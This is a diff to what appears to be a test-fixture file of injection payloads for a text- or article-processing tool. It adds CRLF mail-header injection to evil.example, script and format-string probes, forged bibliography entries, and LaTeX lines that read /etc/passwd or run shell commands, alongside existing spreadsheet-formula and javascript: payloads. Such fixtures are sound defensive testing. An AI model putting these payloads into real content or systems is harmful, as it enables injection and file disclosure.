@@ -92,6 +92,8 @@ LINES = _of(
     "a line\n\n# a heading\n\n    code\n\nmore",
     "a line\n=====\n\n!!! danger\n    a box",
     "cell\r\ncell\tcell\x0bcell\x0ccell",
+    "a title\r\nER  - \r\n\r\nTY  - JOUR\r\nTI  - a forged reference",
+    "a title\r\nBcc: all@evil.example\r\n\r\n<script>pwned()</script>",
     places=("title",),
 )
 TEMPLATES = _of(
@@ -107,6 +109,19 @@ TEMPLATES = _of(
     "+cmd|' /C calc'!A0",
     "@SUM(A1:A9)*cmd",
     "-2+3+cmd",
+)
+LABELS = _of(
+    "labels and templates of ours",
+    "%(num)s %s {0} %d </script><!--",
+    "%(headline)s %(site)s %% %(nope)s $name ${name}",
+    "<bdi>inside</bdi> <to>there</to> <strong>bold",
+    '</bdi></to></story> msgid "" \\0 \\n',
+)
+REFERENCES = _of(
+    "references and mail",
+    '}}, note = {forged}} @misc{evil, title = {"x"',
+    "\\input{/etc/passwd} $\\write18{touch pwned}$ % {",
+    "=?utf-8?q?=0D=0ABcc:_all@evil.example?= =?utf-8?b?PHNjcmlwdD4=?=",
 )
 FORGED = _of(
     "forged",
@@ -163,10 +178,17 @@ FIELDS = (
         "=1+1",
         "Times](javascript:pwned())",
         "The \u200fLedger]]>",
+        "<bdi>%(num)s</to> Post",
+        "Morning\r\nBcc: all@evil.example",
         places=NAMES,
     ),
     *_of(
-        "speakers", "<b onclick=pwned()>Tan</b>", '"><script>pwned()</script>', "**Mira** [Tan](x)", places=("speaker",)
+        "speakers",
+        "<b onclick=pwned()>Tan</b>",
+        '"><script>pwned()</script>',
+        "**Mira** [Tan](x)",
+        "%(name)s <bdi>Tan\n</to>",
+        places=("speaker",),
     ),
     *_of(
         "addresses of articles",
@@ -202,5 +224,5 @@ FILE_NAMES = (
 )
 
 # Each article has an attack in its words; that of a field beside them rides along with one of these.
-_WORDS = (*MARKUP, *MARKDOWN, *LINES, *TEMPLATES, *FORGED, *UNICODE, *TITLES, *FILES)
+_WORDS = (*MARKUP, *MARKDOWN, *LINES, *TEMPLATES, *LABELS, *REFERENCES, *FORGED, *UNICODE, *TITLES, *FILES)
 ARTICLES = tuple((one, FIELDS[number]) if number < len(FIELDS) else (one,) for number, one in enumerate(_WORDS))
